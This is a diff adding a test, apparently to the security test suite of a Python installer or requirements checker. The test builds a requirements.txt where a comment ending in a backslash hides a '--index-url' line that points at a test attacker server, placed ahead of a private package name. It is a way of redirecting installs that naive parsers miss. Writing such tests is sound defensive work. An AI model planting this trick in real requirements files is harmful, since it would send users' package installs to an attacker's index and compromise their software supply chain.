@@ -58,6 +58,15 @@ def test_a_requirements_file_in_another_encoding(stage, monkeypatch, encoding):
     _attack(stage, monkeypatch, f"direct link in a requirements file in {encoding.upper()}", "-r", str(requirements))
 
 
+def test_an_option_below_a_comment_that_seems_to_go_on(stage, monkeypatch):
+    """To whoever joins lines before looking for comments it is part of one; installers take it."""
+    stage.evil(stage.attacker)
+    requirements = stage.working / "requirements.txt"
+    requirements.write_text(f"# as in the handbook \\\n--index-url {stage.attacker.url}\n{PRIVATE}\n")
+    title = "index option below a comment that ends in a backslash"
+    _attack(stage, monkeypatch, title, "-r", str(requirements))
+
+
 def test_a_dependency_group(stage, monkeypatch):
     """Of the project that one is in (PEP 735)."""
     project = stage.working / "pyproject.toml"
